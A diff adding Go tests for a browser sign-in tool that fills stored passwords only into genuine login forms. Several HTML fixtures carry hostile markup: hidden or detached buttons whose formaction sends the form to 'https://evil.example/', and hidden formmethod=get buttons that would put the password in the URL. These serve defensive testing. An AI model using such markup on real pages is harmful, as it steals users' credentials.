@@ -124,3 +124,84 @@ func TestAFrameCannotTakeWhatIsTyped(t *testing.T) {
 		}
 	}
 }
+
+// A login goes into forms to sign in with, and into no other that has a field for
+// a password.
+func TestOnlyFormsToSignInWithAreFilledIn(t *testing.T) {
+	t.Parallel()
+	const lone = `<form method=post action=/session><label>Password <input type=password name=password></label><button>Save</button></form>`
+	for name, c := range map[string]struct{ path, html, want string }{
+		"a password alone":               {"/keep", lone, "does not say whose"},
+		"a secret of a hook":             {"/hooks", `<p>ada</p><form method=post action=/session><label>Webhook secret <input type=password name=password></label><button>Save</button></form>`, "another one"},
+		"a mail server":                  {"/settings/smtp", `<form method=post action=/session><input name=user><input type=password name=password><button>Save</button></form>`, "another one"},
+		"settings with a name":           {"/settings/mailbox", `<form method=post action=/session><label>User name <input name=user></label><input type=password name=password><button>Save</button></form>`, "settings"},
+		"of somebody who is in":          {"/keep", `<p>ada</p><a href=/out>Sign out</a>` + lone, "signed in already"},
+		"its button sends elsewhere":     {"/login", `<form method=post action=/session><button style="display:none" formaction="https://evil.example/">x</button><input name=user><input type=password name=password><button>Sign in</button></form>`, "another site"},
+		"a button outside the form does": {"/login", `<button form=f formaction="https://evil.example/"></button><form id=f method=post action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`, "another site"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := open(t, nil)
+			w.mux.HandleFunc("POST /session", func(http.ResponseWriter, *http.Request) { t.Error("it was sent") })
+			if out := w.call("browser_sign_in", "url", w.page(c.path, c.html)); !strings.Contains(out.Text, c.want) {
+				t.Error(out.Text)
+			}
+			if strings.Contains(c.html, "Sign out") {
+				if out := w.call("browser_sign_in", "again", true); !out.Error || !strings.Contains(out.Text, "current password") {
+					t.Error(out.Text)
+				}
+			}
+			if w.armed.Password != "" {
+				t.Error("a login was armed")
+			}
+		})
+	}
+}
+
+// What asks for the password of somebody it names, or for the current one, is
+// answered.
+func TestAPasswordAlone(t *testing.T) {
+	t.Parallel()
+	for name, html := range map[string]string{
+		"shown":    `<p>Welcome back, Ada</p><form method=post action=/session><input type=password name=password><button>Sign in</button></form>`,
+		"held":     `<form method=post action=/session><input name=user value=ada readonly><input type=password name=password><button>Sign in</button></form>`,
+		"declared": `<form method=post action=/session><input type=password name=password autocomplete=current-password><button>Sign in</button></form>`,
+		"again":    `<a href=/out>Log out</a><form method=post action=/session><input type=password name=password autocomplete=current-password><button>Confirm</button></form>`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := open(t, nil)
+			w.page("/account", account)
+			w.accept("/session", "/account")
+			w.ok("browser_navigate", "url", w.page("/login", html))
+			if s := w.ok("browser_sign_in", "again", name == "again"); !strings.Contains(s, "signed_in") || !strings.Contains(s, "Welcome, Ada") {
+				t.Error(s)
+			}
+		})
+	}
+}
+
+// In fill mode the password comes into no address.
+func TestAPasswordIsPutIntoNoAddress(t *testing.T) {
+	t.Parallel()
+	for name, html := range map[string]string{
+		"no method":               `<form action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`,
+		"the method of the form":  `<form method=get action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`,
+		"a method that is none":   `<form method=send action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`,
+		"the button's":            `<form method=post action=/session><input name=user><input type=password name=password><button formmethod=get>Sign in</button></form>`,
+		"that of a hidden button": `<form method=post action=/session><button formmethod=get style="display:none"></button><input name=user><input type=password name=password><button>Sign in</button></form>`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := open(t, nil)
+			w.logins[0].Fill = true
+			w.mux.HandleFunc("/session", func(rw http.ResponseWriter, r *http.Request) {
+				if r.URL.RawQuery != "" {
+					t.Errorf("it came in the address %s", r.URL)
+				}
+				_, _ = io.WriteString(rw, "ok")
+			})
+			w.call("browser_sign_in", "url", w.page("/login", html))
+		})
+	}
+}
